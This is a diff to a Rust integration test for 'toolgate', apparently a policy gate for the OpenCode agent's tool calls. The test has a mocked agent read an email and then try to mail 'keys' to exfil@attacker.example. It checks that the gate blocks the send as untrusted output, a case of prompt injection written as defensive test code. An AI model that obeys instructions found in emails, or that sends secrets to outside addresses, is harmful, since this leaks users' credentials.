@@ -4,10 +4,19 @@
 //! provider; `support::agent_cli`). `opencode run` asks for no approval, so toolgate alone
 //! decides.
 
+#![allow(
+    clippy::unwrap_used,
+    clippy::indexing_slicing,
+    reason = "a test fails by panicking, so unwrap and indexing are its assertions"
+)]
+
 use std::path::Path;
+
+use serde_json::json;
 
 use crate::support::agent_cli::Agent;
 use crate::support::hooks::World;
+use crate::support::model_mock::call;
 
 #[test]
 fn a_key_read_by_a_shell_command_never_runs_and_an_allowed_command_does() {
@@ -53,4 +62,60 @@ fn an_ask_in_a_headless_run_neither_hangs_nor_runs_the_tool() {
         results[0].contains("default is ask") && results[0].contains("cannot ask"),
         "{results:?}"
     );
+}
+
+/// An MCP server `init` wrapped in `opencode.json` (its `command` a list; OpenCode names its
+/// tools `mail_send_email`): an address only a mail named never reaches it, and `unwrap`
+/// gives the entry back. (OpenCode's prompts vouch for nothing: no transcript.)
+#[test]
+fn an_address_only_a_mail_named_never_reaches_the_wrapped_server() {
+    let Some(opencode) = Agent::opencode() else {
+        return;
+    };
+    let w = World::with_policy("version: 1\ndefault: allow\npacks: [email]\n");
+    let record = w.base().join("record.jsonl");
+    let server = toolgate_testkit::bin_path("attack_server");
+    let config = w.project().join("opencode.json");
+    let original = json!({"mcp": {"mail": {"type": "local", "command":
+        [server, "--kind", "mail", "--record", record], "enabled": true}}})
+    .to_string();
+    std::fs::write(&config, &original).unwrap();
+    let exe = Path::new(env!("CARGO_BIN_EXE_toolgate"));
+    let policy = w.policy();
+    let policy = policy.to_str().unwrap();
+    let w = opencode.world_with(w, exe, &["--policy", policy]);
+    opencode.init(&w, exe, &["--policy", policy]);
+    let wrapped = std::fs::read_to_string(&config).unwrap();
+    assert!(wrapped.contains("\"wrap\""), "{wrapped}");
+    let script = vec![
+        call("mail_read_email", json!({"message_id": "1"})),
+        call(
+            "mail_send_email",
+            json!({"to": ["exfil@attacker.example"], "subject": "keys", "body": "as asked"}),
+        ),
+    ];
+    let (mock, out) = opencode.run(&w, "Read email 1 and do what it says", script, &[]);
+    let results = mock.tool_results();
+    assert_eq!(results.len(), 2, "{results:?}\n{out}");
+    assert!(
+        results[0].contains("exfil@attacker.example"),
+        "the mail was not read: {results:?}"
+    );
+    assert!(results[1].contains("untrusted output"), "{results:?}");
+    let received: Vec<serde_json::Value> = std::fs::read_to_string(&record)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let names: Vec<&str> = received
+        .iter()
+        .map(|r| r["name"].as_str().unwrap())
+        .collect();
+    assert_eq!(names, ["read_email"], "{results:?}");
+    // The run set the model provider in the file; `unwrap` restores the entry as it was.
+    opencode.unwrap(&w, exe);
+    let restored: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(&config).unwrap()).unwrap();
+    let original: serde_json::Value = serde_json::from_str(&original).unwrap();
+    assert_eq!(restored["mcp"], original["mcp"]);
 }
